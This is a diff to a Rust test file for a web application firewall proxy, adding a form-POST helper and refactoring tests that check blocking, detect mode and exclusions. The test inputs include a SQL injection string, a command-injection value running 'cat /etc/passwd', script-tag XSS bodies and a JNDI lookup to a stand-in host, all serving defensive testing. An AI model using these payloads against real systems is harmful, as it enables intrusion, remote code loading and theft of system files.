@@ -359,6 +359,12 @@ async fn not_found_flood_bans_on_the_sixth_404() {
     assert_eq!(ev["evidence"]["count"], 6);
 }
 
+/// A url-encoded form POST from `src`.
+async fn post_form(src: &str, to: std::net::SocketAddr, path: &str, body: &'static str) -> Resp {
+    let form = [("content-type", "application/x-www-form-urlencoded")];
+    send_from(src, to, "POST", path, &form, Bytes::from(body)).await
+}
+
 /// Issue 12, end to end: a payload in the query, the body (JSON, form) or a header is blocked
 /// with the why in the event; clean look-alikes pass; detect mode records and the report turns
 /// what fired into exclusions.
@@ -367,22 +373,13 @@ async fn payloads_in_query_body_and_headers() {
     let up = Upstream::start().await;
     let p = Proxy::start(&up.url(), ProxyOpts::default());
     let json = [("content-type", "application/json")];
-    let form = [("content-type", "application/x-www-form-urlencoded")];
     let r = get("127.0.80.1", p.addr, "/items?id=1%27%20OR%20%271%27%3D%271").await;
     assert_eq!(r.status, 403);
     let id = r.headers["x-aiwaf-request-id"].to_str().unwrap().to_string();
     let r = send_from("127.0.80.2", p.addr, "POST", "/api/run", &json, Bytes::from(r#"{"cmd": "x; cat /etc/passwd"}"#))
         .await;
     assert_eq!(r.status, 403);
-    let r = send_from(
-        "127.0.80.3",
-        p.addr,
-        "POST",
-        "/comment",
-        &form,
-        Bytes::from("text=%3Cscript%3Ealert(1)%3C/script%3E"),
-    )
-    .await;
+    let r = post_form("127.0.80.3", p.addr, "/comment", "text=%3Cscript%3Ealert(1)%3C/script%3E").await;
     assert_eq!(r.status, 403);
     let r = send_from("127.0.80.4", p.addr, "GET", "/", &[("user-agent", "${jndi:ldap://x.example/a}")], Bytes::new())
         .await;
@@ -404,13 +401,11 @@ async fn payloads_in_query_body_and_headers() {
     // Detect mode: nothing blocked, everything recorded; the report suggests exclusions.
     let q = Proxy::start(&up.url(), ProxyOpts { mode: Some("detect"), ..Default::default() });
     for k in 0..3 {
-        let r = send_from(
+        let r = post_form(
             &format!("127.0.81.{}", k + 1),
             q.addr,
-            "POST",
             "/admin/posts/7/change/",
-            &form,
-            Bytes::from("title=Hi&content=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
+            "title=Hi&content=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
         )
         .await;
         assert_eq!(r.status, 200);
@@ -425,24 +420,15 @@ async fn payloads_in_query_body_and_headers() {
     // An exclusion from the report lets the same edit through in block mode.
     let config = format!("{}\n", rows[0]["exclusion"].as_str().unwrap());
     let x = Proxy::start(&up.url(), ProxyOpts { config: Some(config), ..Default::default() });
-    let r = send_from(
+    let r = post_form(
         "127.0.82.1",
         x.addr,
-        "POST",
         "/admin/posts/7/change/",
-        &form,
-        Bytes::from("title=Hi&content=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
+        "title=Hi&content=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
     )
     .await;
     assert_eq!(r.status, 200);
-    let r = send_from(
-        "127.0.82.2",
-        x.addr,
-        "POST",
-        "/admin/posts/7/change/",
-        &form,
-        Bytes::from("title=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
-    )
-    .await;
+    let r =
+        post_form("127.0.82.2", x.addr, "/admin/posts/7/change/", "title=%3Cscript%3Ealert(1)%3C%2Fscript%3E").await;
     assert_eq!(r.status, 403, "only the excluded target is let through");
 }
